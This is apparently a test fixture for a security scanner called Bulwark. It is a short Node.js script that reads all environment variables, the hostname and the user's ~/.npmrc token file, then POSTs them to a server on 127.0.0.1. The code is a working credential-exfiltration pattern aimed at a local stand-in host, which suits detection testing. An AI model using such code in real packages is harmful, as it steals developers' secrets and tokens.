// Inert Bulwark test fixture. The address is on 127.0.0.1.
const os = require("os");
const fs = require("fs");
const https = require("https");
const data = JSON.stringify({
  env: process.env,
  host: os.hostname(),
  npmrc: fs.readFileSync(os.homedir() + "/.npmrc", "utf8"),
});
const req = https.request({ hostname: "127.0.0.1", port: 8443, path: "/c", method: "POST" });
req.write(data);
req.end();
